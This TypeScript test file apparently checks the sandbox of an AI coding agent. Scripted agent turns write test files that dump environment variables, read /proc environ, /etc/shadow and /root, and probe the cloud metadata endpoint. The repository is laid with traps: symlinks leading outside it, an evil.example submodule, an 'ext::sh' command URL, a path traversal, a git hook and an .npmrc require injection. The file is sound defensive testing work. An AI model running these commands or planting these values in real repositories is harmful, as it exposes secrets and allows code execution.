import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { schema } from "@firstline/db";
import { and, eq } from "drizzle-orm";
import { afterEach, beforeAll, beforeEach, expect, test, vi } from "vitest";
import { CART_FILES, finish, mendTotal, NEW_TEST, TOTAL, writeTest } from "../fixes/cart.ts";
import { aFixWorld } from "../fixes/fix-world.ts";
import type { FixWorld } from "../fixes/fix-world.ts";
import type { Entry } from "../fixes/repository.ts";
import { Bench, findProblem } from "../fixes/workbench.ts";
import { testDatabase } from "../support/database.ts";
import type { TestDatabase } from "../support/database.ts";

/** Code of a captured model, run for real over a real clone of a repository that is laid with traps. */

const problem = await findProblem();
/** By name: without one, node looks for tests behind links as well. */
const SETTINGS = { testCommand: "node --test test/*.test.js", fixMinutes: 10 };
const SECRET = "canary-of-the-environment";
const HOST_FILE = "canary-of-the-machine";

let database: TestDatabase;
let bench: Bench;
let outside: string;
beforeAll(async () => {
  if (problem !== null) return;
  database = await testDatabase();
  return () => database.stop();
});
beforeEach(({ skip }) => {
  skip(problem !== null, problem ?? "");
  bench = new Bench();
  outside = mkdtempSync(join(tmpdir(), "outside-"));
  writeFileSync(join(outside, "secret.txt"), HOST_FILE);
  vi.stubEnv("GITHUB_TOKEN", SECRET);
  vi.stubEnv("ANTHROPIC_API_KEY", SECRET);
  vi.stubEnv("DATABASE_URL", SECRET);
});
afterEach(() => {
  vi.unstubAllEnvs();
  if (problem !== null) return;
  bench[Symbol.dispose]();
  rmSync(outside, { recursive: true, force: true });
});

async function aWorld(traps: Entry[] = []): Promise<FixWorld> {
  const files = Object.entries(CART_FILES).map(([path, content]) => ({ path, content }));
  const repository = bench.repository([...files, ...traps]);
  return aFixWorld(database.db, {
    workbench: bench.workbench,
    settings: SETTINGS,
    cloneUrl: repository.path,
  });
}

/** A test file that tries something and prints what came of it. */
const trying = (path: string, code: string) => ({
  name: "write_file",
  input: {
    path,
    contents: `import { test } from "node:test";\nimport fs from "node:fs";\nimport { execSync } from "node:child_process";\nimport net from "node:net";\ntest("x", async () => {\n${code}\n});\n`,
  },
});

/** Everything that was seen or said of an attempt. */
async function everything(world: FixWorld, attemptId: number): Promise<string> {
  const o = schema.outgoingMessages;
  const outgoing = await world.desk.ctx.db.select().from(o).where(eq(o.workspaceId, world.desk.workspace.id));
  return JSON.stringify([
    world.agent.requests,
    world.host.calls,
    await world.steps(attemptId),
    await world.read(attemptId),
    outgoing,
  ]);
}

test("nothing of the environment, of the machine or of the network comes out of a run", async () => {
  const listener = createServer((socket) => socket.end("canary-of-the-network"));
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  // A listening server has an address of this form.
  const { port } = listener.address() as AddressInfo;
  const world = await aWorld();
  const code = `
  const say = (what, work) => { try { console.log(what, work()); } catch (error) { console.log(what, "no:", error.code ?? error.message); } };
  console.log("ENVIRONMENT", JSON.stringify(process.env));
  say("PARENT", () => fs.readFileSync("/proc/1/environ", "utf8"));
  say("PARENTS", () => execSync("cat /proc/[0-9]*/environ 2>/dev/null | tr '\\\\0' '\\\\n'").toString());
  say("OUTSIDE", () => fs.readFileSync(${JSON.stringify(join(outside, "secret.txt"))}, "utf8"));
  say("WRITE", () => fs.writeFileSync(${JSON.stringify(join(outside, "written.txt"))}, "x"));
  say("SHADOW", () => fs.readFileSync("/etc/shadow", "utf8"));
  say("PROJECT", () => fs.readdirSync(${JSON.stringify(process.cwd())}).join());
  say("ROOT", () => fs.readdirSync("/root").join());
  await new Promise((resolve) => {
    const socket = net.connect(${port}, "127.0.0.1");
    socket.on("data", (data) => console.log("NETWORK", String(data)));
    socket.on("error", (error) => { console.log("NETWORK no:", error.code); resolve(); });
    socket.on("end", resolve);
  });
  await fetch("http://169.254.169.254/latest/meta-data").then((r) => console.log("META", r.status), (error) => console.log("META no:", error.cause?.code ?? error.message));`;
  world.agent.next(
    { calls: [trying("test/leak.test.js", code), { name: "run_tests", input: {} }] },
    { calls: [writeTest, mendTotal, { name: "run_tests", input: {} }] },
    { calls: [finish()] },
  );

  const attempt = await world.wholeFix();

  listener.close();
  const seen = await everything(world, attempt.id);
  expect(seen).toContain("ENVIRONMENT");
  expect(seen).toContain("NETWORK no:");
  expect(seen).toContain("META no:");
  for (const canary of [SECRET, HOST_FILE, "canary-of-the-network", "pnpm-workspace.yaml", "root:"]) {
    expect(seen).not.toContain(canary);
  }
  expect(readdirSync(outside)).toEqual(["secret.txt"]);
  expect(attempt.status).toBe("suggested");
  expect(world.host.callsOf("commitFiles")).toEqual([]);
  expect(bench.copies()).toEqual([]);
}, 120_000);

test("links, filters, hooks and submodules of a repository lead nowhere", async () => {
  const mark = join(outside, "executed");
  const run = `touch ${mark}`;
  const world = await aWorld([
    { path: "link", content: outside, mode: "120000" },
    { path: "src/secret.js", content: join(outside, "secret.txt"), mode: "120000" },
    { path: ".gitattributes", content: "* filter=evil diff=evil merge=evil\n" },
    { path: ".gitmodules", content: '[submodule "x"]\n\tpath = sub\n\turl = https://evil.example/x.git\n' },
    { path: "sub", content: "a".repeat(40), mode: "160000" },
    { path: ".githooks/post-checkout", content: `#!/bin/sh\n${run}\n`, mode: "100755" },
    { path: ".npmrc", content: `node-options=--require ${mark}\n` },
  ]);
  world.agent.next(
    {
      calls: [
        { name: "read_file", input: { path: "src/secret.js" } },
        { name: "read_file", input: { path: "link/secret.txt" } },
        { name: "search", input: { text: HOST_FILE.slice(0, 9) } },
        { name: "write_file", input: { path: "link/written.txt", contents: "x" } },
        { name: "write_file", input: { path: "src/secret.js", contents: "x" } },
        { name: "write_file", input: { path: "sub/x.js", contents: "x" } },
        { name: "delete_file", input: { path: ".gitattributes" } },
      ],
    },
    { calls: [writeTest, mendTotal, { name: "run_tests", input: {} }] },
    { calls: [finish()] },
  );

  const attempt = await world.wholeFix();

  expect(attempt).toMatchObject({ status: "drafted", failure: null });
  expect(await everything(world, attempt.id)).not.toContain(HOST_FILE);
  expect(readdirSync(outside)).toEqual(["secret.txt"]);
  expect(existsSync(mark)).toBe(false);
  const [commit] = world.host.callsOf("commitFiles").map(({ args }) => Object(args[0]));
  expect(commit.files.map(({ path }: { path: string }) => path)).toEqual([TOTAL, NEW_TEST]);
  expect(await refusals(world)).toEqual([
    "fix_path_link",
    "fix_path_link",
    "fix_path_link",
    "fix_path_forbidden",
  ]);
}, 120_000);

test.each([
  ["an address that is a command", "url = ext::sh -c touch% PLACE"],
  ["a command to update with", "url = https://evil.example/x.git\n\tupdate = !touch PLACE"],
  ["a name that leads out", "url = ../../x\n\tpath = ../../PLACE"],
])(
  "a submodule with %s is not followed",
  async (_what, lines) => {
    const mark = join(outside, "executed");
    const content = `[submodule "x"]\n\tpath = sub\n\t${lines.replaceAll("PLACE", mark)}\n`;
    const world = await aWorld([
      { path: ".gitmodules", content },
      { path: "sub", content: "a".repeat(40), mode: "160000" },
    ]);
    world.agent.next({ calls: [writeTest, mendTotal] }, { calls: [finish()] });

    const attempt = await world.wholeFix();

    expect(["drafted", "failed"]).toContain(attempt.status);
    expect(existsSync(mark)).toBe(false);
    expect(readdirSync(outside)).toEqual(["secret.txt"]);
    expect(bench.copies()).toEqual([]);
  },
  120_000,
);

test("a run that eats memory, prints without end or leaves something running ends, and so does the attempt", async () => {
  const world = await aWorld();
  const eat = `
  execSync("(sleep 600 & sleep 600 & true)", { stdio: "ignore" });
  for (let line = 0; line < 400_000; line += 1) process.stdout.write("x".repeat(50) + "\\n");`;
  world.agent.next(
    { calls: [trying("test/eat.test.js", eat), { name: "run_tests", input: {} }] },
    { calls: [{ name: "delete_file", input: { path: "test/eat.test.js" } }, writeTest, mendTotal] },
    { calls: [finish()] },
  );

  const attempt = await world.wholeFix();

  expect(attempt).toMatchObject({ status: "drafted" });
  const steps = await world.steps(attempt.id);
  expect(steps[1]?.output.length).toBeLessThan(20_000);
  expect(bench.copies()).toEqual([]);
}, 120_000);

async function refusals({ desk, ticketId }: FixWorld): Promise<unknown[]> {
  const e = schema.ticketEvents;
  const rows = await desk.ctx.db
    .select({ metadata: e.metadata })
    .from(e)
    .where(and(eq(e.workspaceId, desk.workspace.id), eq(e.ticketId, ticketId), eq(e.kind, "attack_refused")));
  return rows.map(({ metadata }) => Object(metadata).what);
}
